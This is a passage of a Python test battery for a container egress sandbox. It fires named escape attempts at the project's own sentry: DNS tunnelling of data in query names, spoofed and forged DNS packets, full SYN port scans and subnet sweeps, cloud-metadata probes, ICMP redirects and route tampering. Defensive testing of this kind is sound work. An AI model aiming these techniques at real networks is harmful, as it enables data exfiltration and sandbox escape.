#!/usr/bin/env python3
"""rbm's escape battery: what a hostile bottle tries, one named case each.

Runs in the attacker image (Debian with scapy, tests/battery/Containerfile),
as root with every capability (`podman exec --privileged`): stronger than
any real bottle, which has neither NET_ADMIN nor NET_RAW.

  attacks.py run CONFIG_JSON      in the bottle: every case in turn
  attacks.py witness UPLINK_NET   in the sentry's network namespace
  attacks.py count FILE TEXT...   how often each TEXT is in FILE (the
                                  witness's capture)

`run` prints one JSON line per case: id, group, tries, expected, observed,
ok (what the bottle saw was the blocked outcome), the case's time window
(t0, t1), and `egress`: what may leave the sentry on its uplink during that
window ("IP:PORT" anything to it, "IP:PORT/empty" TCP without payload).
`witness` reroutes the link-local range to a trap world and prints every
packet the sentry sends out of its uplink (tcpdump), which
tests/tests/battery.rs lays over the windows: anything else that left is
an escape, whatever the bottle saw.

Network safety: every address here is the test's own: its enclave and
uplink subnets and the worlds on them; link-local destinations are routed
to the trap world by the witness before any case runs.
"""

import base64
import gzip
import json
import os
import random
import re
import socket
import ssl
import struct
import subprocess
import sys
import time

SHUT = 0.8  # seconds of silence that count as "blocked"
GAP = 0.3  # pause after each case, so late packets fall in its window


def now():
    return time.time()


# ---------------------------------------------------------------- helpers


def dns_packet(name, qtype="A", qid=None, rd=1):
    from scapy.layers.dns import DNS, DNSQR

    return bytes(DNS(id=qid or random.randint(1, 65535), rd=rd, qd=DNSQR(qname=name, qtype=qtype)))


def dns_exchange(packet, server, port=53, tcp=False, timeout=SHUT):
    """Sends raw DNS bytes; the reply's bytes, or None."""
    try:
        if tcp:
            with socket.create_connection((server, port), timeout=timeout) as s:
                s.settimeout(timeout)
                s.sendall(struct.pack("!H", len(packet)) + packet)
                head = s.recv(2)
                if len(head) < 2:
                    return None
                (n,) = struct.unpack("!H", head)
                data = b""
                while len(data) < n:
                    chunk = s.recv(n - len(data))
                    if not chunk:
                        break
                    data += chunk
                return data
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(timeout)
            s.sendto(packet, (server, port))
            return s.recvfrom(65535)[0]
    except OSError:
        return None


RCODES = {0: "NoError", 1: "FormErr", 2: "ServFail", 3: "NXDomain", 4: "NotImp", 5: "Refused"}


def dns_query(name, qtype="A", server=None, port=53, tcp=False, timeout=SHUT):
    """(rcode, [addresses]) or None when nothing answered."""
    from scapy.layers.dns import DNS

    reply = dns_exchange(dns_packet(name, qtype), server or CFG["sentry"], port, tcp, timeout)
    if reply is None:
        return None
    try:
        d = DNS(reply)
    except Exception:
        return ("unparsable", [])
    addrs = []
    for i in range(d.ancount or 0):
        rr = d.an[i]
        if rr.type in (1, 28):
            addrs.append(str(rr.rdata))
    return (RCODES.get(d.rcode, str(d.rcode)), addrs)


def shown(answer):
    if answer is None:
        return "no answer"
    rcode, addrs = answer
    return rcode + (" " + ",".join(addrs) if addrs else "")


def udp_try(ip, port, payload=b"rbm battery", timeout=SHUT):
    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(payload, (ip, port))
        return "reply" if s.recvfrom(65535)[0] else "silent"
    except OSError:
        return "silent"
    finally:
        s.close()


def ping(ip, count=2):
    r = subprocess.run(["ping", "-n", "-c", str(count), "-W", "1", "-i", "0.2", ip], capture_output=True, text=True)
    return "reply" if r.returncode == 0 else "silent"


def sh(*args):
    return subprocess.run(list(args), capture_output=True, text=True)


def raw_reply(packet, timeout=SHUT, count=1):
    """scapy sr1: the first answer to `packet`, or None."""
    from scapy.all import conf, sr1

    conf.verb = 0
    return sr1(packet, timeout=timeout, retry=0)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_bytes(src, dst, sport, dport, seq=7):
    """A TCP SYN as raw IPv4 bytes (the kernel fills in the IP checksum):
    scapy is too slow for 65,535 of them."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def witness_tells(packets):
    """Sends raw packets that expect no answer; the verdict is the
    witness's: nothing may leave the sentry."""
    send(packets)
    time.sleep(SHUT)
    return (True, "sent (the witness tells)")


def trap_after(change, undo):
    """Changes the bottle's own network (`ip ...`), tries the trap over TCP,
    undoes the change."""
    sh("ip", *change)
    t = tcp_try(CFG["trap"], 80, timeout=1.5)
    sh("ip", *undo)
    return (blocked(t), f"tcp {t}")


def send(packets):
    from scapy.all import conf
    from scapy.all import send as scapy_send

    conf.verb = 0
    scapy_send(packets)


def client_hello(name):
    """A real ClientHello (OpenSSL's) for `name`, as bytes."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=name or None)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def with_ech(hello):
    """`hello` (one TLS record, a ClientHello) with an encrypted_client_hello
    extension (0xfe0d) appended: an outer ECH (draft-ietf-tls-esni): HKDF-SHA256
    and AES-128-GCM, a config id, a 32-byte encapsulated key and 208 bytes
    of "encrypted" inner ClientHello (random: nobody can read it anyway)."""
    body = hello[9:5 + struct.unpack("!H", hello[3:5])[0]]
    at = 2 + 32
    at += 1 + body[at]  # session id
    at += 2 + struct.unpack("!H", body[at:at + 2])[0]  # cipher suites
    at += 1 + body[at]  # compression methods
    (ext_len,) = struct.unpack("!H", body[at:at + 2])
    payload = (b"\x00" + struct.pack("!HHB", 1, 1, random.randint(0, 255))
               + struct.pack("!H", 32) + os.urandom(32) + struct.pack("!H", 208) + os.urandom(208))
    exts = body[at + 2:at + 2 + ext_len] + struct.pack("!HH", 0xFE0D, len(payload)) + payload
    body = body[:at] + struct.pack("!H", len(exts)) + exts + body[at + 2 + ext_len:]
    handshake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return hello[:3] + struct.pack("!H", len(handshake)) + handshake


def placeholder():
    """The credential's placeholder, as the bottle has it (its environment)."""
    return os.environ.get("API_KEY", "")


def https_get(ip, name, path="/", bearer=None, host=None, verify=True, timeout=3, gzip_ok=False):
    """One HTTP/1.1 GET over TLS to ip:443 with server name `name` (and Host
    `host`, by default the same): "STATUS BODY", or what failed. `verify`
    trusts what the bottle trusts (SSL_CERT_FILE: the public roots and the
    sentry's CA); `gzip_ok` accepts a gzip-encoded body (and decodes it)."""
    ctx = ssl.create_default_context()
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    auth = f"Authorization: Bearer {bearer}\r\n" if bearer else ""
    accept = "Accept-Encoding: gzip\r\n" if gzip_ok else ""
    req = f"GET {path} HTTP/1.1\r\nHost: {host or name}\r\n{auth}{accept}Connection: close\r\n\r\n"
    try:
        with socket.create_connection((ip, 443), timeout=timeout) as raw:
            with ctx.wrap_socket(raw, server_hostname=name) as tls:
                tls.sendall(req.encode())
                data = b""
                while True:
                    chunk = tls.recv(4096)
                    if not chunk:
                        break
                    data += chunk
    except (OSError, ssl.SSLError) as e:
        return f"failed: {type(e).__name__}: {e}"
    head, _, body = data.partition(b"\r\n\r\n")
    head = head.decode(errors="replace")
    if "transfer-encoding: chunked" in head.lower():
        body = dechunk(body)
    if "content-encoding: gzip" in head.lower():
        body = gzip.decompress(body)
    status = head.split(" ", 2)[1] if head.startswith("HTTP/") else head[:40]
    return f"{status} {body.decode(errors='replace').strip()}"


def dechunk(body):
    """An HTTP/1.1 chunked body's data."""
    out = b""
    while body:
        size, _, body = body.partition(b"\r\n")
        n = int(size.split(b";")[0] or b"0", 16)
        if n == 0:
            break
        out, body = out + body[:n], body[n + 2:]
    return out


def plain_request(host, bearer=None):
    auth = f"Authorization: Bearer {bearer}\r\n" if bearer else ""
    return f"GET / HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n".encode()


def world_got(verdict):
    """How many bytes a "what did you get" world says it got, from a
    tcp_send_parts verdict (0 for nothing, None when it never answered)."""
    if verdict == GREETING:
        return 0
    m = re.search(r"got (\d+) bytes", verdict)
    return int(m.group(1)) if m else None


CONNECTED = "connected"
GREETING = "only the world's own greeting came back"


def tcp_send_parts(ip, port, parts, timeout=SHUT, pause=0.15, family=socket.AF_INET):
    """Connects, writes `parts` as separate segments, reads: 'answered ...',
    GREETING (not a byte out), 'closed', 'reset', 'silent', or how the
    connect failed; CONNECTED without reading when there are no parts."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(timeout)
    try:
        s.connect((ip, port))
    except ConnectionRefusedError:
        return "refused"
    except OSError:
        return "silent"
    try:
        if not parts:
            return CONNECTED
        for i, part in enumerate(parts):
            if i:
                time.sleep(pause)
            s.sendall(part)
        data = s.recv(4096)
        if re_nothing_got(data):
            return GREETING
        return f"answered {data[:40]!r}" if data else "closed"
    except ConnectionResetError:
        return "reset"
    except OSError:
        return "silent"
    finally:
        s.close()


def re_nothing_got(data):
    """The world's "what did you get" answer when it got no byte: its
    greeting may come back while the sentry holds the bottle's first bytes
    (a server that speaks first); that is not a byte out."""
    greeting = data.startswith(b"world ") and b" sees " in data
    return greeting or (data.startswith(b"world ") and data.rstrip().endswith(b" got 0 bytes"))


def tcp_try(ip, port, payload=b"", timeout=SHUT, family=socket.AF_INET):
    """'open' (connected and, with a payload, got bytes back, the world's
    greeting included), 'refused', 'reset', 'closed' or 'silent'."""
    r = tcp_send_parts(ip, port, [payload] if payload else [], timeout, family=family)
    if r == CONNECTED or r == GREETING or r.startswith("answered"):
        return "open"
    return r


def probe(*args):
    r = subprocess.run(["/rbm-probe", *args], capture_output=True, text=True)
    try:
        return json.loads(r.stdout.strip().splitlines()[-1])
    except Exception:
        return {"ok": False, "raw": r.stdout + r.stderr}


def still_serving():
    """The agent still answers the allowed name with its address."""
    a = dns_query(CFG["api_name"], timeout=2)
    return a is not None and a[0] == "NoError" and CFG["api"] in a[1]


# ---------------------------------------------------------------- cases

CASES = []


def case(group, tries, expected, egress=(), limit=False):
    """Registers an attack; the function returns (ok, observed). A `limit`
    case shows something that gets out by design, as README's limits say:
    ok means it got out exactly as described there and nothing else left
    (its egress allows what the limit lets out)."""

    def register(fn):
        CASES.append((fn.__name__.replace("_", "-"), group, tries, expected, list(egress), fn, limit))
        return fn

    return register


def blocked(state):
    return state not in ("open", "reply") and not state.startswith("answered")


# Controls: allowed traffic goes through, and the witness sees it.


def controls():
    return [
        ("control-allowed-name", "control", "resolve the allowed name and reach it on TCP and UDP",
         "answered, reached, and seen leaving the sentry",
         ["DNS", "API:80"], control_allowed, False),
        ("control-allowed-cidr", "control", "reach the allowed CIDR on TCP",
         "reached", [f"{CFG['cidr']}:80"], control_cidr, False),
        ("control-attacker-is-root-with-every-capability", "control",
         "open a raw socket and change the bottle's own routes",
         "both work: the attacks below run with NET_RAW and NET_ADMIN", [], control_capabilities, False),
        ("control-credential", "control",
         "HTTPS to the credential host with the placeholder (the bottle trusts the sentry's CA)",
         "answered with the placeholder echoed back; the world got the real key (battery.rs checks its log)",
         ["DNS", "CRED:443"], control_credential, False),
    ]


def control_capabilities():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
        raw = "raw socket"
    except OSError as e:
        raw = f"no raw socket ({e})"
    add = sh("ip", "route", "add", "192.0.2.0/24", "dev", CFG["ifname"])
    sh("ip", "route", "del", "192.0.2.0/24", "dev", CFG["ifname"])
    route = "route added" if add.returncode == 0 else f"no route ({add.stderr.strip()})"
    return (raw == "raw socket" and add.returncode == 0, f"{raw}; {route}")


def control_allowed():
    a = dns_query(CFG["api_name"], timeout=2)
    t = tcp_try(CFG["api"], 80, f"GET / HTTP/1.1\r\nHost: {CFG['api_name']}\r\n\r\n".encode(), timeout=2)
    u = udp_try(CFG["api"], 80, timeout=2)
    return (a is not None and CFG["api"] in a[1] and t == "open" and u == "reply",
            f"dns {shown(a)}; tcp {t}; udp {u}")


def control_credential():
    a = dns_query(CFG["cred_name"], timeout=2)
    r = https_get(CFG["cred"], CFG["cred_name"], bearer=placeholder())
    return (r == f"200 auth: Bearer {placeholder()}", f"dns {shown(a)}; https {r}")


def control_cidr():
    t = tcp_try(CFG["cidr"], 80, b"hello\n", timeout=2)
    return (t == "open", f"tcp {t}")


# DNS


@case("dns", "a name the profile does not allow", "REFUSED; nothing asked upstream")
def dns_refused_name():
    a = dns_query(CFG["other_name"])
    return (a is not None and a[0] == "Refused", shown(a))


@case("dns", "a public name (example.com)", "REFUSED; nothing asked upstream")
def dns_refused_public_name():
    a = dns_query("example.com")
    return (a is not None and a[0] == "Refused", shown(a))


@case("dns", "a made-up name under an exact allowed name", "REFUSED; nothing asked upstream")
def dns_subname_of_exact_name():
    a = dns_query("x." + CFG["api_name"])
    return (a is not None and a[0] == "Refused", shown(a))


@case("dns", "data tunnelled in 20 query names under the exact allowed name", "all REFUSED; nothing upstream")
def dns_tunnel_in_labels():
    secret = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
    rcodes = set()
    for i in range(20):
        a = dns_query(f"{secret[:40]}{i}.{CFG['api_name']}")
        rcodes.add(shown(a))
    return (rcodes == {"Refused"}, ",".join(sorted(rcodes)))


@case("dns", "the same tunnel over TCP", "REFUSED; nothing upstream")
def dns_tunnel_over_tcp():
    a = dns_query("exfil-" + os.urandom(8).hex() + "." + CFG["api_name"], tcp=True)
    return (a is not None and a[0] == "Refused", shown(a))


@case("dns", "a query of type ANY for the allowed name", "REFUSED; nothing upstream")
def dns_any():
    a = dns_query(CFG["api_name"], 255)
    return (a is not None and a[0] == "Refused", shown(a))


@case("dns", "a zone transfer (AXFR over TCP)", "REFUSED; nothing upstream")
def dns_zone_transfer():
    a = dns_query(CFG["zone"], "AXFR", tcp=True)
    return (a is not None and a[0] in ("Refused", "NotImp"), shown(a))


@case("dns", "a query of class CHAOS (version.bind)", "REFUSED; nothing upstream")
def dns_chaos_class():
    from scapy.layers.dns import DNS, DNSQR

    pkt = bytes(DNS(id=7, rd=1, qd=DNSQR(qname="version.bind", qtype="TXT", qclass=3)))
    r = dns_exchange(pkt, CFG["sentry"])
    rc = RCODES.get(DNS(r).rcode) if r else None
    return (rc in ("Refused", "NotImp"), rc or "no answer")


@case("dns", "an UPDATE (opcode 5) adding an address for the allowed name", "NOTIMP; nothing learned or sent")
def dns_update_opcode():
    from scapy.layers.dns import DNS, DNSQR

    pkt = bytes(DNS(id=8, opcode=5, qd=DNSQR(qname=CFG["zone"], qtype="SOA")))
    r = dns_exchange(pkt, CFG["sentry"])
    rc = RCODES.get(DNS(r).rcode) if r else None
    after = tcp_try(CFG["trap"], 80)
    return (rc in ("NotImp", "Refused", "FormErr") and blocked(after), f"{rc or 'no answer'}; trap tcp {after}")


@case("dns", "the world's resolver directly over UDP", "no answer; nothing leaves")
def dns_direct_udp():
    a = dns_query(CFG["api_name"], server=CFG["resolver"])
    return (a is None, shown(a))


@case("dns", "the world's resolver directly over TCP", "no answer; nothing leaves")
def dns_direct_tcp():
    a = dns_query(CFG["api_name"], server=CFG["resolver"], tcp=True)
    return (a is None, shown(a))


@case("dns", "DNS over TLS (TCP 853) to the world's resolver", "no connection; nothing leaves")
def dns_over_tls_port():
    t = tcp_try(CFG["resolver"], 853)
    return (blocked(t), f"tcp {t}")


@case("dns", "DNS on another port (UDP 5353) of the world's resolver", "no answer; nothing leaves")
def dns_other_port():
    a = dns_query(CFG["api_name"], server=CFG["resolver"], port=5353)
    return (a is None, shown(a))


@case("dns", "multicast DNS (224.0.0.251:5353) and LLMNR (224.0.0.252:5355)", "no answer; nothing leaves")
def dns_multicast():
    m = dns_query(CFG["other_name"], server="224.0.0.251", port=5353)
    l = dns_query(CFG["other_name"], server="224.0.0.252", port=5355)
    return (m is None and l is None, f"mdns {shown(m)}; llmnr {shown(l)}")


@case("dns", "a refused name over IPv6, to the sentry's link-local address", "no address answered; nothing leaves")
def dns_over_ipv6_link_local():
    ll = CFG.get("sentry_ll")
    if not ll:
        return (True, "the enclave has no IPv6 link-local address")
    a = dns_query(CFG["other_name"], server=f"{ll}%{CFG['ifname']}")
    return (a is None or not a[1], shown(a))


@case("dns", "a 4,000-byte query of garbage", "dropped or FORMERR; the agent keeps serving", egress=["DNS"])

def dns_oversized():
    r = dns_exchange(os.urandom(4000), CFG["sentry"])
    ok = still_serving()
    return (ok, f"{'answered' if r else 'dropped'}; still serving: {ok}")


@case("dns", "a truncated query (5 bytes of header)", "dropped or FORMERR; keeps serving", egress=["DNS"])

def dns_truncated():
    r = dns_exchange(b"\x12\x34\x01\x00\x00", CFG["sentry"])
    ok = still_serving()
    return (ok, f"{'answered' if r else 'dropped'}; still serving: {ok}")


@case("dns", "a question whose name is a compression pointer to itself", "dropped or FORMERR; keeps serving", egress=["DNS"])

def dns_compression_loop():
    pkt = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack("!HH", 1, 1)
    r = dns_exchange(pkt, CFG["sentry"])
    ok = still_serving()
    return (ok, f"{'answered' if r else 'dropped'}; still serving: {ok}")


@case("dns", "a name of 64-byte labels (longer than DNS allows)", "dropped or FORMERR; keeps serving", egress=["DNS"])

def dns_overlong_labels():
    body = b"".join(bytes([63]) + b"a" * 63 for _ in range(5)) + b"\x00"
    pkt = struct.pack("!HHHHHH", 0x4343, 0x0100, 1, 0, 0, 0) + body + struct.pack("!HH", 1, 1)
    r = dns_exchange(pkt, CFG["sentry"])
    ok = still_serving()
    return (ok, f"{'answered' if r else 'dropped'}; still serving: {ok}")


@case("dns", "500 random datagrams to port 53", "each answered or dropped; keeps serving", egress=["DNS"])

def dns_random_garbage():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(500):
        s.sendto(os.urandom(random.randint(1, 600)), (CFG["sentry"], 53))
    s.close()
    time.sleep(0.3)
    ok = still_serving()
    return (ok, f"still serving: {ok}")


@case("dns", "TCP queries that lie about their length, and one left open mid-message", "keeps serving", egress=["DNS"])

def dns_tcp_lies():
    held = []
    for claim, send_n in ((1000, 10), (2, 300), (65535, 0)):
        try:
            s = socket.create_connection((CFG["sentry"], 53), timeout=1)
            s.sendall(struct.pack("!H", claim) + os.urandom(send_n))
            held.append(s)
        except OSError:
            pass
    ok_udp = still_serving()
    tcp = dns_query(CFG["api_name"], tcp=True, timeout=2)
    for s in held:
        s.close()
    ok = ok_udp and tcp is not None and CFG["api"] in tcp[1]
    return (ok, f"udp still serving: {ok_udp}; tcp {shown(tcp)}")


@case("dns", "a flood of 20,000 queries for made-up names", "all REFUSED or dropped; nothing upstream; keeps serving", egress=["DNS"])

def dns_query_flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    base = dns_packet("x.flood.invalid")
    sent = 0
    for i in range(20000):
        name = f"f{i}-{os.urandom(4).hex()}.flood.invalid"
        try:
            s.sendto(dns_packet(name, qid=i % 65535 + 1) if i % 10 == 0 else base, (CFG["sentry"], 53))
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        if i % 200 == 0:
            try:
                while s.recv(4096):
                    pass
            except OSError:
                pass
    s.close()
    time.sleep(0.5)
    ok = still_serving()
    return (ok, f"{sent} sent; still serving: {ok}")


@case("dns", "forged answers (from the resolver's address, port 53) sprayed at every port of the sentry", "nothing learned: the trap stays shut")
def dns_forged_replies():
    from scapy.layers.dns import DNS, DNSQR, DNSRR
    from scapy.layers.inet import IP, UDP

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dns = DNS(id=0, qr=1, aa=1, rd=1, ra=1, qd=DNSQR(qname=CFG["other_name"]),
              an=DNSRR(rrname=CFG["other_name"], rdata=CFG["trap"], ttl=600))
    for target in (CFG["sentry"], CFG.get("sentry_uplink")):
        if not target:
            continue
        # One packet, its destination port patched in; UDP checksum 0 (none).
        template = bytearray(bytes(IP(src=CFG["resolver"], dst=target) / UDP(sport=53, dport=0, chksum=0) / dns))
        for port in range(1024, 65536):
            template[22:24] = struct.pack("!H", port)
            try:
                s.sendto(template, (target, 0))
            except OSError:
                pass
    s.close()
    t = tcp_try(CFG["trap"], 80)
    a = dns_query(CFG["other_name"])
    return (blocked(t) and a is not None and a[0] == "Refused", f"trap tcp {t}; {CFG['other_name']} {shown(a)}")


@case("dns", "a DNS query to the sentry with a spoofed source (the trap world): a reflection", "no answer sent to the trap")
def dns_reflection():
    from scapy.layers.inet import IP, UDP

    return witness_tells(IP(src=CFG["trap"], dst=CFG["sentry"]) / UDP(sport=4444, dport=53) / dns_packet(CFG["api_name"]))


# Direct access


@case("direct", "TCP to an address never learned (the trap world)", "no connection; nothing leaves", )
def tcp_unlearned_address():
    t = tcp_try(CFG["trap"], 80)
    return (blocked(t), f"tcp {t}")


@case("direct", "UDP to an address never learned", "no reply; nothing leaves")
def udp_unlearned_address():
    u = udp_try(CFG["trap"], 80)
    return (blocked(u), f"udp {u}")


@case("direct", "ICMP echo to an address never learned", "no reply; nothing leaves")
def icmp_unlearned_address():
    p = ping(CFG["trap"])
    return (blocked(p), f"ping {p}")


@case("direct", "SYNs to ports 1-1024 of the trap world", "none answered; nothing leaves")
def tcp_port_sweep_unlearned():
    from scapy.layers.inet import IP, TCP

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for port in range(1, 1025):
        s.sendto(syn_bytes(CFG["bottle"], CFG["trap"], 40000, port), (CFG["trap"], 0))
    s.close()
    time.sleep(SHUT)
    return (True, "1024 SYNs sent (the witness tells)")


@case("direct", "the cloud metadata address 169.254.169.254 (TCP 80, ICMP)", "nothing; nothing leaves")
def cloud_metadata():
    t = tcp_try("169.254.169.254", 80)
    p = ping("169.254.169.254", 1)
    return (blocked(t) and blocked(p), f"tcp {t}; ping {p}")


@case("direct", "the host through its uplink bridge address (TCP 22, 80; ICMP)", "nothing; nothing leaves")
def host_bridge_address():
    gw = CFG["uplink_gateway"]
    t22, t80, p = tcp_try(gw, 22), tcp_try(gw, 80), ping(gw, 1)
    return (blocked(t22) and blocked(t80) and blocked(p), f"tcp22 {t22}; tcp80 {t80}; ping {p}")


@case("direct", "the host at 169.254.1.2 (rootless Podman's host.containers.internal)", "nothing; nothing leaves")
def host_containers_internal():
    t22, t80 = tcp_try("169.254.1.2", 22), tcp_try("169.254.1.2", 80)
    return (blocked(t22) and blocked(t80), f"tcp22 {t22}; tcp80 {t80}")


@case("direct", "a sweep of the whole uplink subnet (TCP 80 and ICMP)", "nothing but the allowed hosts; nothing else leaves",
      egress=())
def uplink_subnet_sweep():
    from scapy.layers.inet import ICMP, IP, TCP

    allowed = {CFG["api"], CFG["cidr"], CFG["ports"], CFG["short"], CFG["cred"], CFG["front"]}
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for host in range(1, 255):
        ip = f"{CFG['uplink_prefix']}.{host}"
        if ip in allowed:
            continue
        s.sendto(bytes(IP(dst=ip) / TCP(sport=40001, dport=80, flags="S")), (ip, 0))
        s.sendto(bytes(IP(dst=ip) / ICMP()), (ip, 0))
    s.close()
    time.sleep(SHUT)
    return (True, "508 probes sent (the witness tells)")


@case("direct", "a name allowed only on 443, on port 80", "no connection; nothing leaves", egress=["DNS"])

def port_restricted_name_other_port():
    a = dns_query(CFG["ports_name"], timeout=2)
    t = tcp_try(CFG["ports"], 80)
    return (a is not None and CFG["ports"] in a[1] and blocked(t), f"dns {shown(a)}; tcp80 {t}")


@case("direct", "a name allowed only on 443, over UDP to port 80", "no reply; nothing leaves")
def port_restricted_name_udp():
    u = udp_try(CFG["ports"], 80)
    return (blocked(u), f"udp80 {u}")


@case("direct", "a learned address after its TTL ran out", "reached at once; after the TTL no connection, nothing leaves")
def learned_address_after_ttl():
    a = dns_query(CFG["short_name"], timeout=2)
    early = tcp_try(CFG["short"], 80, f"GET / HTTP/1.1\r\nHost: {CFG['short_name']}\r\n\r\n".encode(), timeout=2)
    until = now() + 0.2
    time.sleep(CFG["short_ttl"] + 2.5)
    late = tcp_try(CFG["short"], 80)
    egress = ["DNS", f"{CFG['short']}:80<{until:.3f}"]
    return (early == "open" and blocked(late), f"dns {shown(a)}; at once {early}; after the TTL {late}", egress)


@case("direct", "an address next to the allowed CIDR", "no connection; nothing leaves")
def beside_the_allowed_cidr():
    t = tcp_try(CFG["beside_cidr"], 80)
    return (blocked(t), f"tcp {t}")


# The sentry itself


@case("sentry", "a TCP SYN scan of all 65,535 ports of the sentry's enclave address", "only 53 answers")
def sentry_tcp_scan():
    from scapy.all import AsyncSniffer
    from scapy.layers.inet import IP, TCP

    sniffer = AsyncSniffer(iface=CFG["ifname"], filter=f"tcp and src host {CFG['sentry']} and tcp[13] & 18 == 18", store=True)
    sniffer.start()
    time.sleep(0.3)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for port in range(1, 65536):
        s.sendto(syn_bytes(CFG["bottle"], CFG["sentry"], 41000, port), (CFG["sentry"], 0))
    s.close()
    time.sleep(1.5)
    got = sniffer.stop()
    open_ports = sorted({p[TCP].sport for p in got})
    return (open_ports == [53], f"open: {open_ports}")


@case("sentry", "UDP to the sentry's likely ports (DHCP, NTP, SNMP, mDNS, 8080, 15443, ...)", "only 53 answers", egress=["DNS"])
def sentry_udp_ports():
    answered = [p for p in (53, 67, 68, 69, 123, 137, 161, 500, 1900, 4789, 5353, 8080, 15443, 51820)
                if udp_try(CFG["sentry"], p, dns_packet(CFG["api_name"]), timeout=0.4) == "reply"]
    return (answered == [53], f"answered: {answered}")


@case("sentry", "the credential proxy's port (15443) directly, without the redirect", "no connection")
def sentry_proxy_port_direct():
    t = tcp_send_parts(CFG["sentry"], 15443, [client_hello(CFG["api_name"])])
    return (blocked(t), f"tcp {t}")


@case("sentry", "the sentry's uplink address, through the sentry (TCP 53, 80, 15443; UDP 53)", "nothing")
def sentry_uplink_address():
    up = CFG.get("sentry_uplink")
    res = [tcp_try(up, p) for p in (53, 80, 15443)] + [udp_try(up, 53, dns_packet(CFG["api_name"]))]
    return (all(blocked(r) for r in res), f"{res}")


@case("sentry", "the sentry's other enclave address (the one Podman gives it): TCP 22, 53, 80, 15443, UDP 53", "nothing answers a query; no connection")
def sentry_link_address():
    link = CFG["sentry_link"]
    tcp = [tcp_try(link, p) for p in (22, 53, 80, 15443)]
    udp = udp_try(link, 53, dns_packet(CFG["api_name"]))
    return (all(blocked(r) for r in tcp) and blocked(udp), f"tcp {tcp}; udp53 {udp}")


@case("sentry", "the control socket: any rbm socket visible from the bottle", "none")
def sentry_control_socket():
    with open("/proc/net/unix") as f:
        listed = [l for l in f.read().splitlines() if "rbm" in l]
    paths = [p for p in ("/run/rbm", "/run/rbm/agent.sock", "/rbm-agent") if os.path.exists(p)]
    return (not listed and not paths, f"sockets {len(listed)}; paths {paths}")


@case("sentry", "the sentry as a relay to its own loopback (127.0.0.1 via the sentry)", "nothing")
def sentry_loopback_relay():
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    from scapy.all import conf, getmacbyip, sendp

    conf.verb = 0
    mac = getmacbyip(CFG["sentry"])
    sendp(Ether(dst=mac) / IP(src=CFG["bottle"], dst="127.0.0.1") / TCP(dport=53, flags="S"), iface=CFG["ifname"])
    r = tcp_try(CFG["sentry"], 53)
    return (r == "open", f"sent; DNS over TCP still {r}")


@case("sentry", "an ICMP redirect telling the sentry to route the trap through the bottle", "no effect: the trap stays shut")
def sentry_icmp_redirect():
    from scapy.layers.inet import ICMP, IP, UDP

    send(IP(src=CFG["sentry"], dst=CFG["sentry"]) / ICMP(type=5, code=1, gw=CFG["bottle"]) / IP(src=CFG["sentry"], dst=CFG["trap"]) / UDP())
    t = tcp_try(CFG["trap"], 80)
    return (blocked(t), f"trap tcp {t}")


# Network tricks


@case("tricks", "a default route through the (absent) host bridge address of the enclave", "nothing reaches the trap")
def route_via_enclave_bridge():
    gw = CFG["enclave_prefix"] + ".1"
    sh("ip", "route", "del", "default")
    sh("ip", "route", "add", "default", "via", gw, "dev", CFG["ifname"], "onlink")
    t = tcp_try(CFG["trap"], 80)
    return (blocked(t), f"tcp {t}")


@case("tricks", "the uplink subnet declared on-link (ARP for the trap on the enclave)", "nothing reaches the trap")
def uplink_on_link():
    net = CFG["uplink_prefix"] + ".0/24"
    return trap_after(["route", "add", net, "dev", CFG["ifname"]], ["route", "del", net, "dev", CFG["ifname"]])


@case("tricks", "an uplink address on the bottle's own interface", "nothing reaches the trap")
def uplink_address_on_bottle():
    addr = CFG["uplink_prefix"] + ".77/24"
    return trap_after(["addr", "add", addr, "dev", CFG["ifname"]], ["addr", "del", addr, "dev", CFG["ifname"]])


@case("tricks", "another enclave address for the bottle (10.250.N.99)", "nothing reaches the trap")
def other_enclave_address():
    addr = CFG["enclave_prefix"] + ".99"
    sh("ip", "addr", "add", addr + "/24", "dev", CFG["ifname"])
    from scapy.layers.inet import IP, TCP

    send(IP(src=addr, dst=CFG["trap"]) / TCP(dport=80, flags="S"))
    t = tcp_try(CFG["trap"], 80)
